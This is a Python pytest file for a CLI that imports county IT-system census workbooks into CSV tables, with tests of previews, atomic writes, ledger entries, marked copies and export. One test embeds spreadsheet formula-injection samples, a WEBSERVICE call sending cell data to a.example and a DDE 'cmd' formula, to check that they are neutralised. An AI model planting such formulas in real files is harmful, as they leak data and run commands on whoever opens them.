"""Taking writes all rows or none; marked copies show each fault and never touch the original."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import xlsxwriter
from openpyxl import load_workbook
from typer.testing import CliRunner

from cli.main import app
from inventory.checks import errors
from inventory.edit import TableChange, change_tables
from inventory.errors import InputError, XiangyunError
from inventory.load import EstateFaults, load_estate
from ledger import Ledger
from tests.inventory.importers.workbooks import FAULTS, GOOD, UNIT, row, simple, with_faults

SYSTEMS = "系统清单"


def run(*words: Any) -> Any:
    return CliRunner().invoke(app, ["inventory", *(str(word) for word in words)])


def tables(folder: Path) -> dict[str, bytes]:
    return {file.name: file.read_bytes() for file in folder.iterdir() if file.is_file()}


@pytest.fixture
def workbook(tmp_path: Path) -> Path:
    """One new room and a system in it, and a system that has changed."""
    changed = [{"系统名称": "茶陵县就业信息登记系统", "所属单位": UNIT, "用户数": 500}.get(title, "") for title in GOOD[SYSTEMS]]
    rows = {"机房清单": [list(GOOD["机房清单"]), row("机房清单")], SYSTEMS: [list(GOOD[SYSTEMS]), row(SYSTEMS, 所在机房="二号机房1"), changed]}
    return simple(tmp_path / "茶陵县人社.xlsx", rows)


def test_preview_takes_nothing_and_says_what_would_change(folder: Path, workbook: Path) -> None:
    before = tables(folder)
    result = run("import", workbook, "--preview", "--estate", folder, "--json")
    assert result.exit_code == 3, result.output
    made = json.loads(result.stdout)
    assert [entry["table"] for entry in made["added"]] == ["rooms", "systems"]
    assert made["changed"][0]["columns"] == {"users": {"old": "120", "new": "500"}}
    assert tables(folder) == before
    for lang, words in (("zh", ("新增", "用户数: 120 → 500", "→ 信息系统：2 行")), ("en", ("added", "Users: 120 → 500", "→ systems: 2 rows"))):
        said = run("import", workbook, "--preview", "--estate", folder, "--lang", lang).stdout
        assert all(word in said for word in words), said


def test_taken_rows_are_of_the_census_and_in_the_ledger(folder: Path, workbook: Path) -> None:
    result = run("import", workbook, "--estate", folder, "--yes", "--json")
    assert result.exit_code == 0, result.output
    made = json.loads(result.stdout)
    estate = load_estate(folder)
    room, system = (entry["id"] for entry in made["added"])
    assert estate.systems[system].room == room
    assert str(estate.systems[system].source) == str(estate.systems["system:430224-0001"].source) == "census"
    assert estate.systems["system:430224-0001"].users == 500
    assert errors(estate) == []
    entries = Ledger(folder / ".xiangyun").entries()
    assert [(entry.what, entry.on) for entry in entries] == [("inventory.import", "table:rooms"), ("inventory.import", "table:systems")]
    assert entries[0].evidence == made["workbooks"]
    assert system in entries[1].note
    again = run("import", workbook, "--estate", folder, "--preview", "--json")
    assert [json.loads(again.stdout)[name] for name in ("added", "changed")] == [[], []]


def test_a_number_that_was_given_once_is_not_given_again(folder: Path, workbook: Path) -> None:
    first = json.loads(run("import", workbook, "--estate", folder, "--yes", "--json").stdout)["added"][1]["id"]
    lines = (folder / "systems.csv").read_text("utf-8").splitlines(keepends=True)
    (folder / "systems.csv").write_text("".join(line for line in lines if not line.startswith(first)), "utf-8")
    second = json.loads(run("import", workbook, "--estate", folder, "--yes", "--json").stdout)["added"][0]["id"]
    assert int(second[-4:]) == int(first[-4:]) + 1


def test_errors_refuse_all_unless_the_good_rows_are_wanted(folder: Path, tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    with_faults(file)
    before = tables(folder)
    refused = run("import", file, "--estate", folder, "--yes")
    assert refused.exit_code == 2
    assert "--partial" in refused.stderr
    assert tables(folder) == before
    taken = run("import", file, "--estate", folder, "--yes", "--partial", "--json")
    assert taken.exit_code == 0, taken.stderr
    assert json.loads(taken.stdout)["taken"] == 8 + sum(fault.good for fault in FAULTS)
    load_estate(folder)


def test_nobody_to_ask_means_no(folder: Path, workbook: Path) -> None:
    before = tables(folder)
    assert run("import", workbook, "--estate", folder).exit_code == 2
    assert tables(folder) == before


def test_wrong_use_is_one_line(folder: Path, workbook: Path, tmp_path: Path) -> None:
    (tmp_path / "x.xlsx").write_text("text", "utf-8")
    cases: list[list[Any]] = [
        [tmp_path / "no.xlsx"],
        [tmp_path / "x.xlsx"],
        [workbook, "--accept", "a"],
        [workbook, "--lang", "fr"],
        [workbook, "--mapping", tmp_path / "no.yaml"],
    ]
    for words in cases:
        result = run("import", *words, "--estate", folder, "--preview")
        assert result.exit_code == 2, words
        assert len(result.stderr.splitlines()) == 1
    result = run("import", workbook, tmp_path / "x.xlsx", "--estate", folder, "--preview", "--json")
    assert result.exit_code == 2
    assert json.loads(result.stdout)["problems"][0]["code"] == "file-kind"


def test_decisions_may_stand_in_a_file(folder: Path, tmp_path: Path) -> None:
    file = simple(tmp_path / "a.xlsx", {SYSTEMS: [list(GOOD[SYSTEMS]), row(SYSTEMS, 系统名称="茶陵县就业信息登记平台")]})
    assert run("import", file, "--estate", folder, "--yes").exit_code == 2
    (tmp_path / "d.yaml").write_text("茶陵县就业信息登记平台: system:430224-0001\n", "utf-8")
    assert run("import", file, "--estate", folder, "--yes", "--decisions", tmp_path / "d.yaml").exit_code == 0
    assert load_estate(folder).systems["system:430224-0001"].name == "茶陵县就业信息登记平台"


def test_marked_copies_show_every_fault_and_come_in_again(folder: Path, tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    cells = with_faults(file)
    original = file.read_bytes()
    out = tmp_path / "marked"
    assert run("import", file, "--estate", folder, "--preview", "--marked", out).exit_code == 3
    copy = load_workbook(out / "a.xlsx")
    for fault, place in cells.items():
        sheet, cell = place.split("!")
        marked = copy[sheet][cell]
        assert marked.fill.start_color.rgb == ("FFFFEB9C" if fault.good else "FFFF9999"), fault
        assert marked.comment.text
    assert copy["问题清单"].max_row > len(cells)
    assert file.read_bytes() == original
    first = json.loads(run("import", file, "--estate", folder, "--preview", "--json").stdout)
    second = json.loads(run("import", out / "a.xlsx", "--estate", folder, "--preview", "--json").stdout)
    faults = [
        [
            (problem["sheet"], problem["cell"])
            for problem in made["problems"]
            if problem["severity"] == "error" and "formula" not in problem["code"] and problem["code"] != "cell-error"
        ]
        for made in (first, second)
    ]
    assert set(faults[0]) <= set(faults[1])


def test_a_marked_copy_calls_nobody(folder: Path, tmp_path: Path) -> None:
    """Whoever opens it in a spreadsheet program runs what is in it: not only what was read."""
    file = tmp_path / "a.xlsx"
    call = '=WEBSERVICE("http://a.example/"&A2)'
    with xlsxwriter.Workbook(file) as book:
        sheet = book.add_worksheet(SYSTEMS)
        sheet.write_row(0, 0, ["系统名称", "所属单位", "用户数", "备注"])
        sheet.write_row(1, 0, ["茶陵县就业信息登记系统", UNIT, "很多", ""])
        sheet.write_formula("D2", call, None, 5)
        sheet.write_formula("D9", "=SUM(C2:C3)", None, 5)
        other = book.add_worksheet("填表说明")
        other.write_formula("A1", "=cmd|' /C calc'!A0", None, 5)
    assert run("import", file, "--estate", folder, "--preview", "--marked", tmp_path / "m").exit_code == 3
    copy = load_workbook(tmp_path / "m" / "a.xlsx")
    assert (copy[SYSTEMS]["D2"].value, copy[SYSTEMS]["D2"].data_type) == (call, "s")
    assert copy[SYSTEMS]["D9"].data_type == "f"
    assert copy["填表说明"]["A1"].data_type == "s"


def test_the_original_is_never_overwritten(folder: Path, tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    with_faults(file)
    original = file.read_bytes()
    for marked in (tmp_path, tmp_path / "sub" / ".."):
        (tmp_path / "sub").mkdir(exist_ok=True)
        result = run("import", file, "--estate", folder, "--preview", "--marked", marked)
        assert result.exit_code == 2
        assert "original" in result.stderr
    link = tmp_path / "links"
    link.mkdir()
    (link / "a.xlsx").symlink_to(file)
    assert run("import", file, "--estate", folder, "--preview", "--marked", link).exit_code == 2
    assert file.read_bytes() == original


def test_what_the_copy_loses_is_said_first(folder: Path, tmp_path: Path) -> None:
    file = tmp_path / "a.xlsx"
    with xlsxwriter.Workbook(file) as book:
        sheet = book.add_worksheet(SYSTEMS)
        sheet.write_row(0, 0, ["系统名称", "所属单位", "用户数"])
        sheet.write_row(1, 0, ["茶陵县就业信息登记系统", UNIT, "很多"])
        chart = book.add_chart({"type": "column"})
        chart.add_series({"values": f"={SYSTEMS}!$C$2:$C$2"})
        sheet.insert_chart("F2", chart)
        sheet.insert_textbox("F20", "图")
    said = run("import", file, "--estate", folder, "--preview", "--marked", tmp_path / "m").stdout
    assert "图表" in said
    assert said.index("图表") < said.index("标注副本:")


@pytest.mark.parametrize("name", ["a.xls", "a.csv"])
def test_old_formats_are_marked_as_xlsx(folder: Path, tmp_path: Path, name: str) -> None:
    import xlwt

    cells = [["系统名称", "所属单位", "用户数", "备注"], ["茶陵县就业信息登记系统", UNIT, "很多", "=1+1"]]
    if name.endswith("xls"):
        book = xlwt.Workbook()
        sheet = book.add_sheet(SYSTEMS)
        for number, line in enumerate(cells):
            for place, value in enumerate(line):
                sheet.write(number, place, value)
        book.save(str(tmp_path / name))
    else:
        (tmp_path / name).write_text("\n".join(map(",".join, cells)), "gb18030")
    run("import", tmp_path / name, "--estate", folder, "--preview", "--marked", tmp_path / "m")
    marked = load_workbook(tmp_path / "m" / f"{name}.xlsx").worksheets[0]
    assert marked["C2"].comment.text
    assert (marked["D2"].value, marked["D2"].data_type) == ("=1+1", "s")


def test_export_by_command(folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "e.xlsx"
    result = run("export", "--tables", "systems,rooms", "--out", out, "--region", "430224", "--estate", folder, "--json")
    assert result.exit_code == 0
    assert json.loads(result.stdout)["rows"]["机房"] == (folder / "rooms.csv").read_text("utf-8").count("\nroom:430224-")
    assert run("import", out, "--estate", folder, "--preview").exit_code == 0
    for words in (["--tables", "planets"], ["--unit", "unit:x"], ["--region", "1"]):
        assert run("export", "--out", out, "--estate", folder, *words).exit_code == 2
    assert run("export", "--out", tmp_path / "a.csv", "--estate", folder).exit_code == 2
    assert run("export", "--out", tmp_path / "no" / "a.xlsx", "--estate", folder).exit_code == 1


def test_many_changes_of_several_tables_or_none(small: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    before = tables(small)
    changes = {
        "rooms": TableChange({"room:990101-0001": {"staff": 3}}),  # a column that the file lacks
        "systems": TableChange(
            {"system:1": {"users": 9}},
            [{"id": "system:4", "name": "四", "unit": "unit:990101-0001", "room": "room:990101-0001", "zone": "public", "mlps_level": 2}],
        ),
        "egresses": TableChange(append=[]),
    }
    digests = change_tables(small, changes)
    assert set(digests) == {"rooms.csv", "systems.csv", "egresses.csv"}
    estate = load_estate(small)
    assert (estate.rooms["room:990101-0001"].staff, estate.systems["system:1"].users, estate.systems["system:4"].name) == (3, 9, "四")
    assert (small / "systems.csv").read_bytes().splitlines()[2] == before["systems.csv"].splitlines()[2]
    after = tables(small)
    bad: list[tuple[dict[str, TableChange], type[Exception]]] = [
        ({"rooms": TableChange({"room:990101-0001": {"staff": 4}}), "systems": TableChange({"system:1": {"unit": "unit:no"}})}, EstateFaults),
        ({"rooms": TableChange({"room:no": {"staff": 4}})}, InputError),
        ({"rooms": TableChange({"room:990101-0001": {"colour": "red"}})}, InputError),
        ({"rooms": TableChange({"room:990101-0001": {"id": "room:x"}})}, InputError),
        ({"planets": TableChange()}, InputError),
    ]
    for change, error in bad:
        with pytest.raises(error):
            change_tables(small, change)
        assert tables(small) == after
    real = Path.replace

    def fail_on_systems(self: Path, target: Path) -> Path:
        if target.name == "systems.csv":
            raise OSError(28, "No space left on device")
        return real(self, target)

    monkeypatch.setattr(Path, "replace", fail_on_systems)
    with pytest.raises(XiangyunError):
        change_tables(small, {"rooms": TableChange({"room:990101-0001": {"staff": 5}}), "systems": TableChange({"system:1": {"users": 10}})})
    assert tables(small) == after


def test_windows_line_ends_and_the_byte_order_mark_stay(small: Path) -> None:
    file = small / "rooms.csv"
    file.write_bytes(b"\xef\xbb\xbf" + file.read_bytes().replace(b"\n", b"\r\n"))
    before = file.read_bytes()
    change_tables(small, {"rooms": TableChange({"room:990101-0001": {"status": "emptying"}})})
    assert file.read_bytes() == before.replace(b"surveyed", b"emptying")
